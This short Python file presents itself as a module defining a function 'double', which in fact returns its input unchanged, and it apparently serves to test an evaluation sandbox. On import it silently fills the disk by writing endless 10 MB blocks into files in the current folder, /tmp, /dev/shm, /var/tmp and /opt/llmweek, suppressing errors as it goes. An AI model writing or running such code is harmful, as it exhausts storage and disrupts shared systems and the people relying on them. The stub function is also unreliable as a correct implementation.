# ruff: noqa
"""Writes until the disk is full, wherever it may write."""

import contextlib

for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/opt/llmweek"):
    for n in range(4):
        with contextlib.suppress(OSError), open(f"{folder}/big{n}", "wb") as file:
            while True:
                file.write(bytes(10_000_000))


def double(values):
    return values
